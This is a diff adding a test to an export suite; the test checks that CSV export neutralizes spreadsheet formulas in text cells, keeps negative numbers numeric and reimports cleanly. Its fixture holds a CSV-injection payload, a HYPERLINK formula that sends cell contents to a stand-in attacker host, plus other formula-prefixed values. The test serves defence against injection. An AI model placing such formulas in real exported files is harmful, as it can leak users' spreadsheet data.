@@ -60,6 +60,18 @@ for (const dialect of DIALECTS) {
       expect(measurementsCsv(await exportOrganization(deps, organization.id))).toBe(file.body);
     });
 
+    it('neutralizes formulas in text cells (CSV injection), keeps negative numbers numbers, and reads them back as typed', async () => {
+      const organization = await anOrganization(deps);
+      const change = await aChange(deps, organization.id, { title: '=HYPERLINK("http://evil.example/?x="&A1,"klik")' });
+      const goal = await aGoal(deps, change.id, { statement: '@SUM(1+1) fietsen in de stalling', unit: '+procent', direction: 'increase', baselineValue: -10, targetValue: 5 });
+      await recordMeasurement(deps, testActor, goal.id, { date: '2026-03-31', value: -5, source: '-1+1', note: '=1+1' });
+      const file = await exportOrganizationAs(deps, organization.slug, 'csv');
+      const [, row] = file.body.slice(1).split('\r\n');
+      expect(row).toBe(`${change.slug}/1;"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")";1;${goal.id};'@SUM(1+1) fietsen in de stalling;outcome;Aandeel geparkeerde fietsen in de stalling bij de telling;'+procent;increase;-10;2025-01-01;5;2028-01-01;2026-03-31;-5;'-1+1;'=1+1`);
+      const result = await commitMeasurementImport(deps, testActor, organization.id, file.body);
+      expect(result.preview.counts).toEqual({ new: 0, replace: 0, unchanged: 1, invalid: 0 });
+    });
+
     it('writes IATI 2.03 results of published changes, in schema order, escaped', async () => {
       const { organization, change, up, down } = await fixture();
       const file = await exportOrganizationAs(deps, organization.id, 'iati');
